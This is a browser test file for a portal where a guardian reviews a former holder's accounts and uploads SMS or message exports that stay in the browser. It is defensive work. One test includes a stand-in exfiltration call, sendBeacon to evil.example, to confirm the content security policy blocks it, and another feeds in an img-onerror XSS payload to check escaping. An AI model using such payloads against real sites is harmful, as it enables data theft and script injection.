"""A former holder goes through their accounts in Chromium; of their messages nothing leaves it."""

import io
import json
import zipfile

import pytest
from playwright.sync_api import Browser, Page, Request
from tests.browser.portal_site import LINE, PortalSite
from tests.browser.test_content_policy import listen, violations
from tests.browser.test_look import LANGUAGES
from tests.worlds import at_once

from cleanbreak.flows.guardian_link import guardian_link
from cleanbreak.flows.request_termination import request_termination

SMS = """<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>
<smses count="5">
  <sms address="PayPal" date="1700000000000" type="1" body="123456 is your security code." />
  <sms address="+4915112345678" date="1700000000000" type="1" body="Bring the code 1234, Mum" />
  <sms address="PayPal" date="1760000000000" type="1" body="Secret &gt; &#x1F600; &amp; more" />
  <sms address="HAFENBANK" date="1500000000000" type="1" body="Your balance" />
  <sms address="Nobody" date="1700000000000" type="2" body="sent by me" />
</smses>
"""
RECORDS = [
    ("1069000012", "【招商银行】您的验证码为 445566", "received"),
    ("VM-HDFCBK", "OTP is 123456", "received"),
    ("72000", "Ihr Kontostand", "received"),
    ("+8613800138000", "hello", "received"),
    ("WhatsApp", None, "received"),
    ("Draft", "x", "draft"),
]


def zipped(compression: int) -> bytes:
    """Return a takeout with messages in it."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as file:
        file.writestr("sms.xml", SMS)
        lines = [
            json.dumps(
                {"kind": "message", "address": address, "text": text, "direction": direction,
                 "at": "2026-11-01T10:00:00+00:00"}, ensure_ascii=False)
            for address, text, direction in RECORDS
        ]  # fmt: skip
        file.writestr("messages.ndjson", "\n".join(lines) + "\nnot json\n")
    return made.getvalue()


def senders_in(page: Page, name: str, content: bytes) -> list[str]:
    """Choose a file; return the senders that are shown, in their order."""
    file = {"name": name, "mimeType": "application/octet-stream", "buffer": content}
    page.locator("#file").wait_for()  # the script shows it when it listens
    page.set_input_files("#file", file)
    page.locator("#result:not([hidden]), #unreadable:not([hidden])").wait_for()
    return page.locator("#senders [data-name]").all_text_contents()


@pytest.mark.parametrize("language", LANGUAGES)
def test_accounts_are_gone_through_and_kept(
    language: str, chromium: Browser, site: PortalSite
) -> None:
    order = request_termination(at_once(LINE), site.world.outside, site.world.clock())
    site.work()
    context = chromium.new_context(base_url=site.address, locale=LANGUAGES[language])
    page = context.new_page()
    told = listen(page)
    page.goto(guardian_link(order.order_id))
    assert page.locator("html").get_attribute("lang") == language
    assert page.locator("input[type=password]").count() == 0
    page.check("[value=whatsapp]")
    page.check("[value=bank]")
    page.locator("#keep button").click()
    page.wait_for_load_state()
    assert page.locator("#done-count").text_content() == "2"
    assert page.locator("[value=bank]").is_checked()
    page.locator("[name=stop]").click()
    page.wait_for_selector("[name=resume]")
    page.locator("a[href^='/guardian/senders/']").click()
    assert senders_in(page, "sms.xml", SMS.encode()) == ["PayPal", "HAFENBANK"]
    assert page.locator("#senders a").first.get_attribute("href") == (
        "https://www.paypal.com/myaccount/settings/"
    )
    assert violations(told) == []
    context.close()


def test_of_the_messages_nothing_leaves_the_browser(page: Page, site: PortalSite) -> None:
    page.goto("/guardian/senders/?place=cn")
    page.wait_for_load_state("networkidle")
    asked: list[Request] = []
    page.on("request", lambda one: asked.append(one))
    for compression in (zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED):
        found = senders_in(page, "takeout.zip", zipped(compression))
        assert found == ["招商银行", "HDFCBK", "WhatsApp", "72000"]
    text = page.locator("main").inner_text()
    for unsaid in ("445566", "hello", "13800138000", "Draft", "OTP is"):
        assert unsaid not in text
    kept = page.evaluate(
        "async () => [localStorage.length, sessionStorage.length, document.cookie.includes('sms'),"
        " (await indexedDB.databases()).length, (await caches.keys()).length, location.search]"
    )
    assert kept == [0, 0, False, 0, 0, "?place=cn"]
    assert [one.url for one in asked] == []

    # and if a script wanted to, the browser would not let it
    tries = page.evaluate(
        """async () => {
            const refused = [];
            const all = new Promise((done) => {
                document.addEventListener("securitypolicyviolation", (one) => {
                    refused.push(one.effectiveDirective);
                    if (refused.length === 3) done(refused);
                });
            });
            const to = location.origin + "/guardian/";
            fetch(to).catch(() => 0);
            navigator.sendBeacon("https://evil.example/", "x");
            const form = document.createElement("form");
            form.method = "post";
            document.body.append(form);
            form.submit();
            return await all;
        }"""
    )
    assert sorted(tries) == ["connect-src", "connect-src", "form-action"]
    assert not any(one.method == "POST" for one in asked)
    assert page.url.endswith("/guardian/senders/?place=cn")


def test_what_holds_no_messages_is_said_so(page: Page, site: PortalSite) -> None:
    page.goto("/guardian/senders/")
    for name, content in (
        ("a.zip", b"PK\x03\x04 broken"),
        ("b.xml", b"<smses/>"),
        ("c", b"\0" * 9),
    ):
        assert senders_in(page, name, content) == []
        assert page.locator("#unreadable").is_visible()
    assert senders_in(page, "sms.xml", SMS.replace("\n", " ").encode()) == ["PayPal", "HAFENBANK"]
    hostile = SMS.replace("HAFENBANK", "&lt;img src=x onerror=alert(1)&gt;A")
    assert "<img src=x onerror=alert(1)>A" in senders_in(page, "sms.xml", hostile.encode())
    assert page.locator("#senders img").count() == 0
